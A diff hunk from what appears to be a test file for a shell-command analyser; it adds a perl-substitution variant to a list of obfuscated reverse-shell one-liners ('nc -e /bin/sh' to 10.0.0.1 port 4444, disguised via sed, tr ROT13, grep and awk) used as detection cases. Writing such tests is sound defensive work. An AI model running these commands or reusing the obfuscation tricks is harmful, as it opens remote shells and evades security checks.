@@ -311,6 +311,7 @@ def test_what_a_shell_runs_of_other_programs_output():
     "printf '%s\\n' '~c -e /bi~/sh 10.0.0.1 4444' | sed -e 's/~/n/g' | bash",
     "echo 'ap -r /ova/fu 10.0.0.1 4444' | tr 'a-z' 'n-za-m' | sh",
     "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed 's/x/y/' | sh",
+    "echo 'ZZ -e /bin/sh 10.0.0.1 4444' | perl -pe 's/ZZ/nc/' | sh",
     # filters whose output is not computed pass on what they were given
     "echo 'nc -e /bin/sh 10.0.0.1 4444' | grep nc | sh",
     "echo 'nc -e /bin/sh 10.0.0.1 4444' | awk '{print}' | sh",
